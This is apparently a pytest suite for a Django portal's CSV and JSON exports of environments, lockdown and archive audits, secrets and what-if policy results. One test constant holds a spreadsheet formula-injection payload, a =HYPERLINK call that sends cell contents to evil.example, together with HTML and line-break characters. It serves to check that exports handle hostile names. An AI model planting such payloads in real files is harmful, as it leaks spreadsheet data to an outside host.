"""Exports of environments, audits and secrets: the rows of the list, in its order, as of its moment, and their head."""

from __future__ import annotations

import html
import re
import uuid
from collections.abc import Iterator
from datetime import datetime, timedelta
from typing import Any
from urllib.parse import urlencode

import pytest
from django.test import Client
from django.utils import timezone

from environments.as_of import past
from environments.as_of.clock import written
from environments.audit.what_if import answer
from environments.models import Environment, Field, Phase, Secret
from environments.timeline.observed import max_interval
from portal.exports.formats import iso
from tests.support import audits, factories, operations
from tests.support.audits import DAY
from tests.support.databases import SharedRows
from tests.support.exports import read, read_csv, taken

pytestmark = pytest.mark.django_db
LIST, LOCKDOWN, ARCHIVE, SECRETS = "/environments/", "/audit/lockdown/", "/audit/archive/", "/secrets/"
HOSTILE = '=HYPERLINK("https://evil.example?"&A1,"<b>me</b>"),\'\r\n#'


@pytest.fixture
def auditor() -> Client:
    return factories.client("Auditor")


def _swept_fleet() -> list[Environment]:
    made = factories.environments(130, seed=3)
    audits.policies(lifetime=30, archive=3, delete=14)
    audits.swept(*(timezone.now() - number * timedelta(hours=1) for number in range(24 * 40)))
    return made


_FLEET = SharedRows(_swept_fleet, "environments_", "directory_")


@pytest.fixture
def fleet(db: None) -> list[Environment]:
    return _FLEET.put()


def listed(client: Client, url: str, query: str) -> Iterator[str]:
    """The ids of a list, page by page."""
    after = f"?{query}"
    while after:
        context = client.get(url + after, headers={"HX-Request": "true", "HX-Target": "list"}).context
        yield from (str(row.pk) for row in context["page"].rows)
        after = context["next_url"] or ""


@pytest.mark.parametrize(
    ("url", "query"),
    [
        (LIST, ""),
        (LIST, "phase=running&sort=name"),
        (LIST, "sort=-project&q=is:unpushed"),
        (LIST, "sort=lockdown"),
        (LIST, "sort=-lockdown&gone=yes"),
        (LIST, "q=petclinic&archived=yes"),
        (LOCKDOWN, ""),
        (LOCKDOWN, "status=past&status=running&sort=owner"),
        (LOCKDOWN, "sort=-when&gone=yes"),
        (ARCHIVE, "sort=-when"),
        (ARCHIVE, "status=due&phase=stopped"),
    ],
)
def test_rows_are_those_of_the_list_in_its_order(
    auditor: Client, fleet: list[Environment], url: str, query: str
) -> None:
    file = read(auditor, f"{url}export/?{query}")
    assert file.column("id") == list(listed(auditor, url, query))
    assert file.head["rows"] == len(file.rows)
    as_csv = read_csv(taken(auditor, f"{url}export/?{query}", "csv"))
    assert as_csv.is_whole
    assert as_csv.column("id") == file.column("id")


@pytest.mark.parametrize("url", [LIST, LOCKDOWN, ARCHIVE])
def test_a_past_moment_is_exported_as_it_was_known_then(auditor: Client, fleet: list[Environment], url: str) -> None:
    now = timezone.now()
    for row in fleet[:40]:
        audits.moved(row, Field.PHASE, Phase.CREATING, row.phase, by=now - timedelta(hours=1))
    Environment.objects.update(first_seen_at=now - 9 * DAY)
    then = written(now - timedelta(hours=5))
    file = read(auditor, f"{url}export/?as_of={then}")
    assert file.column("id") == list(listed(auditor, url, f"as_of={then}"))
    assert file.head["as_of"] == then
    assert file.head["note"].startswith("The environments that were recorded then.")
    phases = dict(zip(file.column("id"), file.column("phase"), strict=True))
    assert {phases.get(str(row.pk), "creating") for row in fleet[:40]} == {"creating"}
    assert "creating" not in {row["phase"] for row in read(auditor, f"{url}export/").rows if row["id"] in phases}


def test_a_row_tells_what_is_known_exactly_and_what_is_not(auditor: Client) -> None:
    made = factories.environment(
        name=HOSTILE, owner_name="", timeout=timedelta(minutes=30), changed_files=0, archived_at=None, shared_ports=[80]
    )
    for file in (read(auditor, f"{LIST}export/"), read_csv(taken(auditor, f"{LIST}export/", "csv"))):
        (row,) = file.rows
        assert (row["id"], row["name"], row["phase"]) == (str(made.pk), HOSTILE, "running")
        assert made.created_at
        assert row["created_at"] == written(made.created_at)
        assert (str(row["timeout_seconds"]), str(row["changed_files"])) == ("1800", "0")
        assert {row[name] or "" for name in ("owner", "archived_at", "unpushed_commits", "unpushed_work")} == {""}


def test_every_line_of_an_audit_carries_what_its_status_was_derived_from(auditor: Client) -> None:
    audits.policies(lifetime=30)
    made = factories.environment(lockdown_at=timezone.now() - DAY)
    (row,) = read(auditor, f"{LOCKDOWN}export/").rows
    assert (row["status"], row["status_words"], row["status_at"]) == (
        "running",
        "locked down, running",
        row["lockdown_at"],
    )
    (line,) = auditor.get(LOCKDOWN).context["rows"]
    assert row["derived_from"] == " ".join(re.findall("<li><bdi>(.*?)</bdi></li>", html.unescape(line["status"])))
    assert row["id"] == str(made.pk)


def test_who_cleared_a_lockdown_is_told_as_on_the_page(auditor: Client) -> None:
    audits.policies(lifetime=30)
    made = factories.environment()
    audits.moved(made, Field.LOCKDOWN, timezone.now() + DAY, None, by=timezone.now() - DAY)
    (row,) = read(auditor, f"{LOCKDOWN}export/").rows
    assert row["status"] == "exempt"
    assert "was cleared by somebody outside the portal" in row["derived_from"]


def test_changes_of_lockdowns_are_exported_all_of_them_with_who_and_why(auditor: Client) -> None:
    now = timezone.now()
    rows = [factories.environment(name=f"e{number}", lockdown_at=now + DAY) for number in range(30)]
    for number, row in enumerate(rows):
        audits.moved(row, Field.LOCKDOWN, None, now + DAY, by=now - number * timedelta(minutes=1))
    made = operations.operation("environment.set_lockdown", environment_id=rows[0].pk, target_id=rows[0].pk,
                                ago=timedelta(minutes=1), after={"lockdownAt": written(now + DAY)},
                                reason="a demo")  # fmt: skip
    file = read(auditor, f"{LOCKDOWN}changes/export/")
    assert file.column("environment") == [f"e{number}" for number in range(30)]
    assert [file.rows[0][name] for name in ("change", "who", "reason", "operation_id")] == [
        "set",
        "ann",
        "a demo",
        str(made.pk),
    ]
    assert file.rows[1]["who"] == "somebody outside the portal"
    assert (file.rows[1]["lockdown_before"], file.rows[1]["lockdown_after"]) == (None, written(now + DAY))
    assert read(auditor, f"{LOCKDOWN}changes/export/?q=name:e7").column("environment") == ["e7"]
    assert auditor.get(f"{LOCKDOWN}changes/export/?format=csv&q=fase:x").status_code == 400


def test_the_head_tells_who_asked_which_list_by_which_filters_and_when(auditor: Client) -> None:
    project = uuid.uuid4()
    factories.environment(project_id=project, project_name="web-shop")
    query = urlencode({"phase": "running", "project": str(project), "q": "otter -is:failing", "sort": "name"})
    head = read(auditor, f"{LIST}export/?{query}").head
    assert head["exported_by"].startswith("auditor-")
    assert (head["list"], head["query"], head["order"]) == (LIST, query, "Name, ascending")
    assert head["filters"] == ["otter", "-is:failing", "Phase: running", "Project: web-shop"]
    assert head["exported_at"] == head["as_of"]
    assert head["rows"] == 1


def test_the_dates_that_a_list_is_narrowed_by_and_words_for_ona_s_constants_are_in_the_file(auditor: Client) -> None:
    now = timezone.now()
    factories.environment(name="kept", role="ENVIRONMENT_ROLE_PREBUILD")
    factories.environment(name="soon", archived_at=now - 5 * DAY, role="ENVIRONMENT_ROLE_NEW_AT_ONA")
    audits.policies(delete=7)
    kept, soon = read(auditor, f"{LIST}export/?sort=name").rows
    assert (kept["deletion_at"], kept["role"]) == (None, "prebuild")
    assert (soon["deletion_at"], soon["role"]) == (iso(now + 2 * DAY), "ENVIRONMENT_ROLE_NEW_AT_ONA")
    assert [row["name"] for row in read(auditor, f"{LIST}export/?q=deletion:<3d").rows] == ["soon"]


def test_the_head_tells_the_policy_of_the_moment_and_not_of_now(auditor: Client) -> None:
    factories.environment(first_seen_at=timezone.now() - 9 * DAY)
    audits.policies(lifetime=30, ago=9 * DAY)
    audits.policies(lifetime=7, strict=True, ago=DAY)
    audits.swept(*(timezone.now() - number * DAY / 100 for number in range(900)))
    policy = read(auditor, f"{LOCKDOWN}export/").head["policy"]
    assert (policy["maximum_lifetime_seconds"], policy["maximum_lifetime_strict"]) == (7 * 86_400, True)
    then = written(timezone.now() - 3 * DAY)
    before = read(auditor, f"{LOCKDOWN}export/?as_of={then}").head["policy"]
    assert (before["maximum_lifetime_seconds"], before["maximum_lifetime_strict"]) == (30 * 86_400, False)
    assert before["delete_archived_after_seconds"] is None


def test_the_head_says_that_the_policies_are_unknown_where_they_were_never_read(auditor: Client) -> None:
    policy = read(auditor, f"{LIST}export/").head["policy"]
    assert policy["lifetime"] == "unknown: the organization's policies had not been read."
    assert "maximum_lifetime_seconds" not in policy


def test_the_head_names_the_times_in_which_nothing_was_observed(auditor: Client) -> None:
    now = timezone.now()
    step = max_interval() / 2
    before = [now - 3 * DAY - number * step for number in range(1, 400)]
    after = [now - number * step for number in range(200)]
    audits.swept(*before, *after)
    observation = read(auditor, f"{LIST}export/").head["observation"]
    first, second = observation["gaps"]
    assert (first["from"], first["until"]) == (observation["gaps_looked_for_since"], written(before[-1]))
    assert (second["from"], second["until"]) == (written(before[0]), written(after[-1]))
    assert second["why"] == "no sync succeeded"
    assert observation["last_sweep_at"] == written(after[0])


@pytest.mark.parametrize("list_", ["/operations/stream/", "/operations/"])
@pytest.mark.parametrize(("start", "end"), [(100, None), (100, 80), (None, 80), (70, 80), (None, None)])
def test_gaps_are_looked_for_over_the_period_that_is_asked_for(
    auditor: Client, list_: str, start: int | None, end: int | None
) -> None:
    now, step = timezone.now(), max_interval() / 2
    steady = [now - 89 * DAY - number * step for number in range(30)]
    audits.swept(*steady)
    asked = {"from": start, "to": end}
    query = "&".join(f"{name}={now - days * DAY:%Y-%m-%dT%H:%M}" for name, days in asked.items() if days)
    observation = read(auditor, f"{list_}export/?{query}").head["observation"]
    since, until = (datetime.fromisoformat(observation[f"gaps_looked_for_{each}"]) for each in ("since", "until"))
    minute = timedelta(minutes=2)
    assert abs(until - (now - (end or 0) * DAY)) < minute
    expected = now - (start or (end or 0) + 30) * DAY if start != 70 else until
    assert abs(since - expected) < minute
    if start == 100:
        assert written(steady[-1]) == observation["gaps"][0]["until"]
        assert observation["gaps"][1]["from"] == written(steady[0])


def test_the_search_boxs_words_for_times_are_a_period_too(auditor: Client) -> None:
    said = {"from:2026-01-05 since:7d": "2026-01-05", "-from:2026-01-05 to:0001-01-02": "0001-01-01"}
    for query, day in said.items():
        observation = read(auditor, f"/operations/export/?{urlencode({'q': query})}").head["observation"]
        assert observation["gaps_looked_for_since"].startswith(day)


def test_a_steadily_observed_month_has_no_gaps(auditor: Client, settings: Any) -> None:
    settings.SWEEP_SECONDS = 3600
    audits.swept(*(timezone.now() - number * timedelta(hours=1) for number in range(24 * 31)))
    assert read(auditor, f"{LIST}export/").head["observation"]["gaps"] == []
    assert "observation.gaps.1.from" not in read_csv(taken(auditor, f"{LIST}export/", "csv")).head


def test_secrets_are_exported_without_a_place_for_values(auditor: Client) -> None:
    factories.secret(name="=TOKEN", uses=None, proxy_hosts=["api.example", "b.example"])
    factories.secret(name="OTHER", scope_kind="organization")
    file = read(auditor, f"{SECRETS}export/?scope=project")
    (row,) = file.rows
    assert (row["name"], row["uses"], row["proxy_hosts"]) == ("=TOKEN", None, ["api.example", "b.example"])
    assert file.head["filters"] == ["Belongs to: project"]
    assert not {"value", "document"} & set(file.columns)
    names = read(auditor, f"{SECRETS}export/?sort=-name").column("name")
    assert names == [row.name for row in auditor.get(f"{SECRETS}?sort=-name").context["rows"]]
    assert len(names) == Secret.objects.count()


@pytest.mark.parametrize(
    ("url", "said"),
    [
        (f"{LIST}export/", "An export needs a format"),
        (f"{LIST}export/?format=xlsx", "An export needs a format"),
        (f"{LIST}export/?format=csv&phase=sleeping", "phase=sleeping"),
        (f"{LIST}export/?format=csv&q=is:sleeping", "is:sleeping"),
        (f"{LIST}export/?format=csv&sort=shoe-size", "there is no such column"),
        (f"{LIST}export/?format=json&as_of=yesterday", "as_of=yesterday"),
        (f"{LOCKDOWN}export/?format=csv&status=lost", "status=lost"),
        (f"{SECRETS}export/?format=csv&scope=moon", "scope=moon"),
    ],
)
def test_what_makes_no_sense_is_refused_in_words_and_not_left_out(auditor: Client, url: str, said: str) -> None:
    answer = auditor.get(url)
    assert answer.status_code == 400
    assert said in answer.content.decode()


def test_buttons_lead_to_the_export_of_what_the_page_shows(auditor: Client, fleet: list[Environment]) -> None:
    for url in (LIST, LOCKDOWN, ARCHIVE):
        page = auditor.get(f"{url}?phase=stopped&sort=name").content.decode()
        assert f'href="{url}export/?format=csv&amp;phase=stopped&amp;sort=name"' in page
        assert f'href="{url}export/?format=json&amp;phase=stopped&amp;sort=name"' in page


def test_a_button_on_a_page_of_the_past_exports_the_past(auditor: Client, fleet: list[Environment]) -> None:
    Environment.objects.update(first_seen_at=timezone.now() - 9 * DAY)
    past.rebuild()
    then = written(timezone.now() - timedelta(hours=5))
    for url in (LIST, LOCKDOWN):
        page = auditor.get(f"{url}?as_of={then}").content.decode()
        assert f'href="{url}export/?format=csv&amp;{urlencode({"as_of": then})}"' in page


def test_who_may_not_export_reads_why_on_the_page(fleet: list[Environment]) -> None:
    for role in ("Viewer", "Operator"):
        client = factories.client(role)
        page = client.get(LIST).content.decode()
        assert "/environments/export/" not in page
        assert "your roles do not let you export" in page
        assert client.get(f"{LIST}export/?format=csv").status_code == 403


@pytest.mark.parametrize("url", [LIST, LOCKDOWN, ARCHIVE])
def test_the_number_of_queries_does_not_grow_with_the_rows(
    auditor: Client, url: str, django_assert_max_num_queries: Any
) -> None:
    factories.environments(10)
    with django_assert_max_num_queries(20) as few:
        assert len(read(auditor, f"{url}export/").rows) == 10
    Environment.objects.all().delete()
    factories.environments(1_500, seed=2)
    with django_assert_max_num_queries(20) as many:
        assert len(read(auditor, f"{url}export/").rows) > 1_400
    assert len(many) == len(few)


def test_whom_another_policy_would_hit_is_told_to_the_last_one(auditor: Client, fleet: list[Environment]) -> None:
    file = read(auditor, "/audit/what-if/export/?archive=2&lifetime=14")
    now = timezone.now()
    by_question = {name: [row for row in file.rows if row["question"] == name] for name in ("lifetime", "archive")}
    assert file.head["filters"] == ["Maximum lifetime: 14 days", "Archive after: 2 days"]
    for name, value in (("lifetime", 14), ("archive", 2)):
        told, rows = answer(name, value, now, None), by_question[name]
        assert len(rows) == told.total > 50
        listed = [str(hit.environment.pk) for hit in told.hits]
        assert [row["id"] for row in rows if row["hit_at"]][: len(listed)] == listed
        assert sum(row["hit_at"] is None for row in rows) == told.unknown
    assert len(file.rows) == sum(map(len, by_question.values())) == file.head["rows"]
    some = read(auditor, "/audit/what-if/export/?lifetime=14&question=lifetime&value=14&within=30d&phase=running")
    assert some.head["filters"] == ["Maximum lifetime: 14 days", "When: within 30 days", "Phase: running"]
    assert 0 < len(some.rows) == len([r for r in by_question["lifetime"] if _is_hit(r, now)]) == some.head["rows"]


def _is_hit(row: dict[str, Any], now: datetime) -> bool:
    return row["phase"] == "running" and bool(row["hit_at"]) and datetime.fromisoformat(row["hit_at"]) <= now + 30 * DAY


@pytest.mark.parametrize("query", ["", "lifetime=9999", "archive=soon"])
def test_a_question_without_sense_makes_no_file(auditor: Client, query: str) -> None:
    assert auditor.get(f"/audit/what-if/export/?format=csv&{query}").status_code == 400
